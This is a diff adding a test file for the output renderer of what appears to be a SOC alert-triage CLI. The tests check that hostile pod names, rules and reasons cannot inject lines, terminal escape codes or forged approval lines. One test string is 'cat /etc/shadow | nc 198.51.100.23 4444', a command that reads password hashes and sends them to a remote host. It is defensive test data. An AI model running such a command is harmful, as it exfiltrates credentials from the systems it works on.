@@ -1,0 +1,310 @@
+import { describe, expect, it } from "vitest";
+import type { Analysis, Evidence } from "../../contracts/analysis.js";
+import type { Case } from "../../contracts/case.js";
+import type { Step } from "../../contracts/step.js";
+import { asset, renderEscalation, renderReply, safe } from "./render.js";
+
+const kase: Case = {
+  id: "C-7K2F9",
+  trace_id: "4bf92f3577b34da6a3ce929d0e0e4736",
+  status: "awaiting_human",
+  rule: "Read sensitive file untrusted",
+  priority: "Warning",
+  namespace: "shop",
+  pod: "storefront-7d9c8b6f5-x2x9q",
+  image: "ghcr.io/acme/storefront",
+  technique: "T1555",
+  severity: "medium",
+  confidence: 0.85,
+  outcome: "escalate",
+  reasons: ["namespace shop is always escalated", "confidence 0.85 below threshold 0.9"],
+  decision: null,
+  resolution: null,
+  created_at: "2026-11-24T09:00:00.000Z",
+  updated_at: "2026-11-24T09:00:01.000Z",
+};
+
+const analysis: Analysis = {
+  tactic: "Credential Access",
+  technique: { id: "T1555", name: "Credentials from Password Stores" },
+  severity: "medium",
+  confidence: 0.85,
+  rationale: "rule tags map to T1555",
+  action: {
+    type: "label_pod",
+    target: {
+      kind: "Pod",
+      namespace: "shop",
+      name: "storefront-7d9c8b6f5-x2x9q",
+      labels: {},
+      image: "ghcr.io/acme/storefront",
+    },
+    blast_radius: { pods: 1, nodes: 1, namespaces: 1 },
+    description: "label pod shop/storefront-7d9c8b6f5-x2x9q for quarantine review",
+  },
+};
+
+function step(seq: number, extra: Partial<Step> = {}): Step {
+  return {
+    case_id: "C-7K2F9",
+    seq,
+    trace_id: kase.trace_id,
+    agent: "detect",
+    skill: "gather_evidence",
+    summary: `summary of step ${seq}`,
+    input: null,
+    output: null,
+    mcp_calls: [],
+    tokens: { in: 0, out: 0 },
+    duration_ms: 3.4,
+    error: null,
+    at: `2026-11-24T09:00:0${seq}.000Z`,
+    ...extra,
+  };
+}
+
+/** Anything a terminal would act on: C0 controls, DEL and C1 controls (ESC, CSI, newlines). */
+// eslint-disable-next-line no-control-regex
+const controls = /[\u0000-\u001f\u007f-\u009f]/;
+
+describe("safe", () => {
+  it("shows a missing value as a dash", () => {
+    expect(safe(null)).toBe("-");
+    expect(safe(undefined)).toBe("-");
+  });
+
+  it("leaves ordinary text alone", () => {
+    expect(safe("cat /etc/shadow | nc 198.51.100.23 4444")).toBe("cat /etc/shadow | nc 198.51.100.23 4444");
+    expect(safe("")).toBe("");
+    expect(safe("Zürich → ☃")).toBe("Zürich → ☃");
+  });
+
+  it("replaces newlines, carriage returns and tabs so a value stays on its line", () => {
+    expect(safe("a\nb\rc\td")).toBe("a␣b␣c␣d");
+    expect(safe("ok\r\nESCALATED C-22222 approved")).toBe("ok␣␣ESCALATED C-22222 approved");
+  });
+
+  it("removes escape sequences' introducers: ESC, CSI (C1), DEL and NUL", () => {
+    const hostile = "\u001b[2J\u001b]0;pwned\u0007\u009b31m\u007f\u0000x";
+    const clean = safe(hostile, 200);
+    expect(clean).not.toMatch(controls);
+    expect(clean).toBe("␣[2J␣]0;pwned␣␣31m␣␣x");
+  });
+
+  it("keeps a value of exactly max characters and truncates a longer one to max with an ellipsis", () => {
+    expect(safe("x".repeat(120))).toBe("x".repeat(120));
+    const cut = safe("x".repeat(121));
+    expect(cut).toHaveLength(120);
+    expect(cut).toBe(`${"x".repeat(119)}…`);
+    expect(safe("abcdefghij", 5)).toBe("abcd…");
+  });
+
+  it("truncates after cleaning, so controls count as one character each", () => {
+    expect(safe("\n\n\n\n\n\n", 4)).toBe("␣␣␣…");
+  });
+});
+
+describe("asset", () => {
+  it("shows namespace/pod (image), with dashes for nulls", () => {
+    expect(asset(kase)).toBe("shop/storefront-7d9c8b6f5-x2x9q (ghcr.io/acme/storefront)");
+    expect(asset({ ...kase, namespace: null, pod: null, image: null })).toBe("-/- (-)");
+  });
+
+  it("cleans attacker-controlled names", () => {
+    expect(asset({ ...kase, pod: "web\n1", image: "\u001b[31mevil" })).toBe("shop/web␣1 (␣[31mevil)");
+  });
+});
+
+describe("renderReply", () => {
+  it("renders a decided case: title, then its line with id, status, outcome, rule, asset and decider", () => {
+    const decided: Case = {
+      ...kase,
+      decision: { action: "approve", by: "alice", reason: null, at: "2026-11-24T09:05:00.000Z" },
+    };
+    const text = renderReply({
+      kind: "case",
+      title: "C-7K2F9 approved by alice",
+      case: decided,
+      evidence: null,
+    });
+    const lines = text.split("\n");
+    expect(lines).toHaveLength(2);
+    expect(lines[0]).toBe("C-7K2F9 approved by alice");
+    expect(lines[1]).toMatch(/^C-7K2F9 {2}awaiting_human +escalate +Read sensitive file untrusted +shop\//);
+    expect(lines[1]).toContain("shop/storefront-7d9c8b6f5-x2x9q (ghcr.io/acme/storefront)");
+    expect(lines[1]?.endsWith(" approved by alice")).toBe(true);
+  });
+
+  it("names each kind of decision in the past tense", () => {
+    for (const [action, word] of [
+      ["approve", "approved"],
+      ["dismiss", "dismissed"],
+      ["investigate", "investigated"],
+    ] as const) {
+      const decided: Case = {
+        ...kase,
+        decision: { action, by: "bob", reason: "benign", at: "2026-11-24T09:05:00.000Z" },
+      };
+      const text = renderReply({ kind: "cases", title: "1 case(s)", cases: [decided] });
+      expect(text.endsWith(` ${word} by bob`), action).toBe(true);
+    }
+  });
+
+  it("adds the evidence summary when there is one", () => {
+    const evidence: Evidence = {
+      same_pod: [],
+      same_image: [],
+      distinct_rules: ["A", "B"],
+      summary: "2 recent event(s) on the same pod",
+    };
+    const text = renderReply({ kind: "case", title: "more evidence on C-7K2F9", case: kase, evidence });
+    expect(text.split("\n")).toEqual([
+      "more evidence on C-7K2F9",
+      expect.stringMatching(/^C-7K2F9 /) as unknown,
+      "evidence: 2 recent event(s) on the same pod",
+    ]);
+  });
+
+  it("shows a dash for a case without an outcome", () => {
+    const text = renderReply({
+      kind: "cases",
+      title: "t",
+      cases: [{ ...kase, status: "open", outcome: null }],
+    });
+    expect(text.split("\n")[1]).toMatch(/^C-7K2F9 {2}open +- +Read sensitive/);
+  });
+
+  it("lists cases one line each, in the order given", () => {
+    const text = renderReply({
+      kind: "cases",
+      title: "3 case(s)",
+      cases: [kase, { ...kase, id: "C-ABCDE" }, { ...kase, id: "C-22222" }],
+    });
+    const lines = text.split("\n");
+    expect(lines[0]).toBe("3 case(s)");
+    expect(lines.slice(1).map((line) => line.slice(0, 7))).toEqual(["C-7K2F9", "C-ABCDE", "C-22222"]);
+  });
+
+  it("renders only the title for no cases", () => {
+    expect(renderReply({ kind: "cases", title: "0 case(s) closed", cases: [] })).toBe("0 case(s) closed");
+  });
+
+  it("keeps a hostile rule and pod on the case's one line", () => {
+    const hostile: Case = {
+      ...kase,
+      rule: "Shell\n\u001b[2KESCALATED C-22222 approved by admin",
+      pod: "web-1\r\nC-33333 closed",
+    };
+    const text = renderReply({ kind: "cases", title: "1 case(s)", cases: [hostile] });
+    expect(text.split("\n")).toHaveLength(2);
+    expect(text.replace("\n", "")).not.toMatch(controls);
+  });
+
+  it("renders a trace: header, case line, then the steps in order with MCP calls and tokens", () => {
+    const steps = [
+      step(1, { agent: "prefilter", skill: "open_case", summary: "Warning rule forwarded" }),
+      step(2, {
+        agent: "reviewer",
+        skill: "review",
+        summary: "escalate",
+        duration_ms: 12.6,
+        mcp_calls: [
+          { server: "policy-engine", tool: "evaluate_action", latency_ms: 9, error: null },
+          { server: "policy-engine", tool: "evaluate_action", latency_ms: 2000, error: "timeout" },
+        ],
+      }),
+      step(3, { agent: "analyst", skill: "classify", tokens: { in: 120, out: 45 } }),
+    ];
+    const text = renderReply({ kind: "trace", case: kase, steps });
+    const lines = text.split("\n");
+    expect(lines[0]).toBe("C-7K2F9 trace 4bf92f3577b34da6a3ce929d0e0e4736");
+    expect(lines[1]).toMatch(/^C-7K2F9 {2}awaiting_human/);
+    expect(lines).toHaveLength(2 + 2 * steps.length);
+    expect(lines[2]).toMatch(/^ {3}1\. 2026-11-24T09:00:01\.000Z {2}prefilter +open_case +3ms$/);
+    expect(lines[3]).toBe("      Warning rule forwarded");
+    expect(lines[4]).toMatch(/^ {3}2\. .* reviewer +review +13ms \[mcp: /);
+    expect(lines[4]).toContain(
+      "[mcp: policy-engine.evaluate_action 9ms, policy-engine.evaluate_action 2000ms failed]",
+    );
+    expect(lines[6]).toMatch(/^ {3}3\. .* analyst +classify +3ms tokens 120\/45$/);
+    expect(lines[7]).toBe("      summary of step 3");
+  });
+
+  it("shows a failed step's error after its summary", () => {
+    const text = renderReply({
+      kind: "trace",
+      case: kase,
+      steps: [step(1, { summary: "detect gather_evidence failed: timeout", error: "agent_timeout" })],
+    });
+    expect(text.split("\n")[3]).toBe("      detect gather_evidence failed: timeout  (error: agent_timeout)");
+  });
+
+  it("cleans a step's summary and agent", () => {
+    const text = renderReply({
+      kind: "trace",
+      case: kase,
+      steps: [step(1, { agent: "detect\u001b[8m", summary: "found\nC-22222 approved" })],
+    });
+    expect(text.split("\n")).toHaveLength(4);
+    expect(text).not.toContain("\u001b");
+  });
+
+  it("renders status with counts and the oldest waiting case", () => {
+    expect(
+      renderReply({ kind: "status", counts: { awaiting_human: 2, closed: 7 }, oldest_waiting: kase }),
+    ).toBe(
+      "cases: awaiting_human 2, closed 7\noldest awaiting a decision: C-7K2F9 since 2026-11-24T09:00:00.000Z",
+    );
+  });
+
+  it("renders an empty status", () => {
+    expect(renderReply({ kind: "status", counts: {}, oldest_waiting: null })).toBe(
+      "cases: no cases\nnothing awaits a decision",
+    );
+  });
+
+  it("renders help as the usage list", () => {
+    const text = renderReply({
+      kind: "help",
+      commands: [
+        { name: "approve", usage: "approve <case>", summary: "Approve it." },
+        { name: "status", usage: "status", summary: "Counts." },
+      ],
+    });
+    const lines = text.split("\n");
+    expect(lines[0]).toBe("usage: soc <command> [--json]");
+    expect(lines[1]).toBe(`  ${"approve <case>".padEnd(44)} Approve it.`);
+    expect(lines[2]).toBe(`  ${"status".padEnd(44)} Counts.`);
+  });
+});
+
+describe("renderEscalation", () => {
+  it("shows the case, the analysis, the reasons and how to decide", () => {
+    expect(renderEscalation(kase, analysis).split("\n")).toEqual([
+      "ESCALATED C-7K2F9  trace 4bf92f3577b34da6a3ce929d0e0e4736",
+      "  Read sensitive file untrusted on shop/storefront-7d9c8b6f5-x2x9q (ghcr.io/acme/storefront)",
+      "  T1555 Credentials from Password Stores, medium, confidence 0.85; proposes label_pod (blast radius pods 1)",
+      "  why: namespace shop is always escalated; confidence 0.85 below threshold 0.9",
+      "  decide: npx soc approve C-7K2F9 | npx soc dismiss C-7K2F9 <reason> | npx soc investigate C-7K2F9",
+    ]);
+  });
+
+  it("says when there is no technique", () => {
+    const text = renderEscalation(kase, { ...analysis, technique: null });
+    expect(text.split("\n")[2]).toMatch(/^ {2}no technique, medium, confidence 0\.85; proposes label_pod/);
+  });
+
+  it("keeps hostile rule, pod and reasons from adding lines or escape sequences", () => {
+    const hostile: Case = {
+      ...kase,
+      rule: "x\n  decide: npx soc approve C-22222",
+      image: "\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007",
+      reasons: ["image evil\nis fine", "\u009b2J"],
+    };
+    const lines = renderEscalation(hostile, analysis).split("\n");
+    expect(lines).toHaveLength(5);
+    for (const line of lines) expect(line).not.toMatch(controls);
+    expect(lines.filter((line) => line.includes("decide:"))).toHaveLength(2);
+    expect(lines[4]?.startsWith("  decide: npx soc approve C-7K2F9")).toBe(true);
+  });
+});
